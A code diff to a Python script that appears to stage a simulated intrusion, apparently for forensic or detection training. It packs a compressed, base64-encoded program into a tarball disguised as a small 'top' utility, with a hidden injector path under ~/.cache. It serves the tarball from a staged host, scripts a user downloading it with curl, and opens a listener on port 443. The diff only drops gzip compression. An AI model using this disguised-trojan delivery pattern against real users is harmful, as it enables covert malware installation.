@@ -17,7 +17,7 @@ import noise
 import scene
 
 HOME = "/home/dave"
-ARCHIVE = HOME + "/lighttop.tar.gz"
+ARCHIVE = HOME + "/lighttop.tar"
 TOOL = HOME + "/lighttop/lighttop"
 LINK = HOME + "/lighttop/python"
 INJECTOR = HOME + "/.cache/.lt/attach"
@@ -57,7 +57,7 @@ def package(program):
     with open(program, "rb") as file:
         packed = base64.b64encode(zlib.compress(file.read(), 9)).decode()
     output = io.BytesIO()
-    with tarfile.open(fileobj=output, mode="w:gz") as archive:
+    with tarfile.open(fileobj=output, mode="w") as archive:
         for name, data, mode in (("lighttop/lighttop", TOOL_SCRIPT, 0o755),
                                  ("lighttop/helper.py", HELPER.replace("@PROGRAM@", packed).encode(), 0o644),
                                  ("lighttop/README", b"lighttop: a small top. Run ./lighttop\n", 0o644)):
@@ -76,10 +76,10 @@ def incident(world, dave, listener):
     seen["victim"] = world.execution(start, "/usr/bin/tail")["pid"]
     seen["shell"] = world.execution(start, "/usr/bin/tail")["ppid"]
     start = time.time()
-    dave.run("curl -s -O http://10.0.0.9/lighttop.tar.gz")
+    dave.run("curl -s -O http://10.0.0.9/lighttop.tar")
     seen["curl"] = world.execution(start, "/usr/bin/curl", seen["shell"])["pid"]
     seen["archive"] = world.file(ARCHIVE)
-    dave.run("tar xzf lighttop.tar.gz && cat lighttop/README")
+    dave.run("tar xf lighttop.tar && cat lighttop/README")
     seen["tar"] = world.execution(start, "/usr/bin/tar", seen["shell"])["pid"]
     seen["tool-file"] = world.file(TOOL)
     seen["helper-file"] = world.file(HOME + "/lighttop/helper.py")
@@ -137,7 +137,7 @@ def main():
     out, root, first_pid, witness, key, program, rules = sys.argv[1:]
     world = scene.World(root, int(first_pid), witness, key, out)
     other = noise.Noise(world, pause=(9.0, 24.0))
-    scene.FileServer("10.0.0.9", {"/lighttop.tar.gz": package(program)})
+    scene.FileServer("10.0.0.9", {"/lighttop.tar": package(program)})
     listener = socket.create_server(("fd00:a::5", 443), family=socket.AF_INET6)
     begin = time.monotonic()
     other.prepare()
